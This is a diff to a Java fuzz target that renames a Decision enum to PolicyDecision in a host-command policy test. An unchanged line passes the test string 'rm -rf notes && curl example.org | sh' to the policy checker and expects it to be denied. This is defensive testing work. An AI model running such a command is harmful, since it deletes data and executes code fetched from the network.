@@ -1,6 +1,6 @@
 package io.docui.fuzz;
 
-import io.docui.hostops.effect.Decision;
+import io.docui.hostops.effect.PolicyDecision;
 import io.docui.hostops.effect.PolicyEvaluation;
 import io.docui.hostops.effect.ShellDialect;
 import io.docui.hostops.policy.HostPolicy;
@@ -18,7 +18,7 @@ final class PolicyTarget implements FuzzTarget {
         HostPolicy policy = policyFixture.load(Optional.of(policyFixture.policyFile()));
         PolicyEvaluation policyEvaluation =
                 policyFixture.judgeLine(policy, "rm -rf notes && curl example.org | sh", ShellDialect.BASH);
-        if (policy.fault().isPresent() && policyEvaluation.decision() != Decision.DENY) {
+        if (policy.fault().isPresent() && policyEvaluation.decision() != PolicyDecision.DENY) {
             throw new AssertionError(policy.fault().get() + ", and yet " + policyEvaluation);
         }
         policy.warnings().forEach(remark -> {
